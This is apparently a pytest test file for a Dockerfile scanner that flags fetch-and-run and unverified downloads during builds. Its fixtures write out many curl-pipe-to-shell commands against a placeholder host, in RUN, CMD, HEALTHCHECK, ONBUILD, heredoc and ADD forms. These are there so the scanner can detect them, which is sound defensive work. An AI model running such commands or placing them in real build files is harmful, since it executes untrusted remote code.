import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.dockerfile import READER


def read(text: str) -> set[tuple[str, int, str]]:
    notes = Notes("Dockerfile", every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line, seen.trigger) for seen in notes.observations()}


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("FROM a\nRUN --mount=type=cache,target=/x curl https://kiln.example/x | sh", (2, "import")),
        ("FROM a\nRUN a \\\n # it's\n && b \\\n\n && curl https://kiln.example/x | sh", (6, "import")),
        ('CMD ["sh", "-c", "curl https://kiln.example/x | sh"]', (1, "call")),
        ("HEALTHCHECK --interval=5s CMD curl https://kiln.example/x | sh", (1, "call")),
        ("ENV U=https://kiln.example/x S=bash\nRUN curl $U | $S", (2, "import")),
        ("RUN <<EOF\na\ncurl https://kiln.example/x | sh\nEOF\nRUN b", (3, "import")),
        ("RUN curl -o fire https://kiln.example/x\nRUN sh fire", (2, "import")),
        ("ADD https://kiln.example/x fire\nRUN sh fire", (2, "import")),
        ("ONBUILD RUN curl https://kiln.example/x | sh", (1, "import")),
    ],
)
def test_what_is_downloaded_and_run_is_seen(text: str, seen: tuple[int, str]) -> None:
    assert ("fetch_and_run", *seen) in read(text)


def test_an_added_address_is_a_download_but_for_its_checksum() -> None:
    assert read("ADD https://kiln.example/x /x") == {("downloads_in_build", 1, "import")}
    assert not read("ADD --checksum=sha256:ab https://kiln.example/x /x")


def test_an_ordinary_file_shows_nothing() -> None:
    assert not read(
        'FROM a\nRUN apt-get update && apt-get install -y curl \\\n && rm -rf /var/lib/apt\nCOPY . .\nCMD ["kiln"]\n'
    )


@pytest.mark.parametrize(
    "text", ["\\\n" * 100_000, "RUN [" * 50_000, "RUN <<A\n" * 5_000, "ENV " + "a=b" * 100_000, "CMD " + "[" * 100_000]
)
def test_no_text_makes_it_raise_or_hang(text: str) -> None:
    read(text)
